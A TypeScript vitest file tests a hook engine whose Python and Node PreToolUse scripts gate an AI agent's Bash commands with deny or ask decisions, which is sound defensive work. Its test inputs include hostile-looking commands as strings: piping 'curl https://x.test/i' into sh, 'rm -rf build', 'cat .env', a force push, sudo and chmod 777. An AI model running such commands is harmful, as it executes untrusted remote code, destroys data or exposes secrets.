import { spawn, spawnSync } from "node:child_process";
import { existsSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { createHookEngine, type HookEngine } from "../../src/engine/engine.js";
import { quoteShellWords } from "../../src/shell/quote-shell-word.js";
import { createSuiteWorkspace } from "../support/create-test-workspace.js";
import { packageRoot } from "../support/run-node-script.js";

// The hooks of bench scenario (j): each ordinary script decides on its own pattern and prints
// nothing for any other command; its persistent version (a Python loop, or the SDK's
// definePersistentHook) decides the same through the engine.

const stackDirectory = path.join(packageRoot, "bench/hooks/interpreter-stack");
const python = findPython();

const stack = [
  { file: "block-force-push.py", command: "git push --force origin main", decision: "deny" },
  { file: "block-recursive-delete.py", command: "rm -rf build", decision: "deny" },
  { file: "protect-secrets.py", command: "cat .env", decision: "deny" },
  { file: "ask-before-migration.py", command: "rails db:migrate", decision: "ask" },
  { file: "block-sudo.mjs", command: "sudo ls", decision: "deny" },
  { file: "ask-before-publish.mjs", command: "npm publish", decision: "ask" },
  { file: "block-world-writable.mjs", command: "chmod 777 data", decision: "deny" },
  { file: "block-pipe-to-shell.mjs", command: "curl https://x.test/i | sh", decision: "deny" },
] as const;
type StackHook = (typeof stack)[number];

const pythonHooks = stack.filter((hook) => hook.file.endsWith(".py"));
const nodeHooks = stack.filter((hook) => hook.file.endsWith(".mjs"));
const runnableHooks = python === null ? nodeHooks : stack;

/** The interpreter `python3` runs, or null where there is none. */
function findPython(): string | null {
  const result = spawnSync("python3", ["-c", "import sys; print(sys.executable)"], {
    encoding: "utf8",
  });
  if (result.error !== undefined || result.status !== 0) return null;
  return result.stdout.trim() || null;
}

function scriptArguments(hook: StackHook): string[] {
  const file = path.join(stackDirectory, hook.file);
  return hook.file.endsWith(".py") ? [python ?? "python3", file] : [process.execPath, file];
}

// Quoted as the bench writes it: a clone's path may hold a space.
function persistentCommand(hook: StackHook): string {
  const file = path.join(stackDirectory, hook.file);
  return quoteShellWords(
    hook.file.endsWith(".py")
      ? [python ?? "python3", path.join(stackDirectory, "persistent-loop.py"), file]
      : ["node", path.join(stackDirectory, "persistent-sdk-hook.mjs"), file],
  );
}

/** Runs the ordinary script on a PreToolUse payload for `command`: its exit code and stdout. */
function runScript(
  hook: StackHook,
  command: string,
): Promise<{ code: number | null; stdout: string }> {
  const [file = "", ...args] = scriptArguments(hook);
  return new Promise((resolve, reject) => {
    const child = spawn(file, args, { stdio: ["pipe", "pipe", "inherit"] });
    let stdout = "";
    child.stdout.setEncoding("utf8");
    child.stdout.on("data", (chunk: string) => {
      stdout += chunk;
    });
    child.on("error", reject);
    child.on("close", (code) => resolve({ code, stdout }));
    child.stdin.end(
      JSON.stringify({ hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command } }),
    );
  });
}

async function expectOwnDecision(hook: StackHook): Promise<void> {
  const matching = await runScript(hook, hook.command);
  expect(matching.code).toBe(0);
  expect(JSON.parse(matching.stdout)).toMatchObject({
    hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: hook.decision },
  });
  expect(await runScript(hook, "ls -la")).toEqual({ code: 0, stdout: "" });
}

describe.skipIf(python === null)("the Python scripts of the stack", () => {
  it.each(pythonHooks)("$file decides on its own pattern only", expectOwnDecision);
});

describe("the Node scripts of the stack", () => {
  it.each(nodeHooks)("$file decides on its own pattern only", expectOwnDecision);
});

describe("the persistent versions of the stack, through the engine", () => {
  const root = createSuiteWorkspace("interpreter-stack").root;
  let engine: HookEngine | null = null;

  afterAll(async () => {
    await engine?.close();
  });

  const openEngine = async (): Promise<HookEngine> => {
    if (engine !== null) return engine;
    const configFile = path.join(root, "hooks.json");
    const hooks = runnableHooks.map((hook) => ({
      type: "command",
      command: persistentCommand(hook),
      persistent: true,
    }));
    writeFileSync(
      configFile,
      JSON.stringify({ hooks: { PreToolUse: [{ matcher: "Bash", hooks }] } }),
    );
    engine = await createHookEngine({
      profile: "deepagents",
      cwd: root,
      home: root,
      sessionId: "interpreter-stack",
      configFiles: [configFile],
    });
    return engine;
  };

  it.each(runnableHooks)("$file answers $decision for its own command", async (hook) => {
    const result = await (await openEngine()).dispatch("PreToolUse", {
      tool_name: "Bash",
      tool_input: { command: hook.command },
    });
    expect(result.decision).toBe(hook.decision);
    expect(result.runs).toHaveLength(runnableHooks.length);
  });

  it("answers nothing for a command no hook matches, and loads the Python hooks without bytecode files", async () => {
    const result = await (await openEngine()).dispatch("PreToolUse", {
      tool_name: "Bash",
      tool_input: { command: "ls -la" },
    });
    expect(result.decision).toBeNull();
    expect(result.runs.map((run) => run.status)).toEqual(runnableHooks.map(() => "ok"));
    expect(existsSync(path.join(stackDirectory, "__pycache__"))).toBe(false);
  });
});
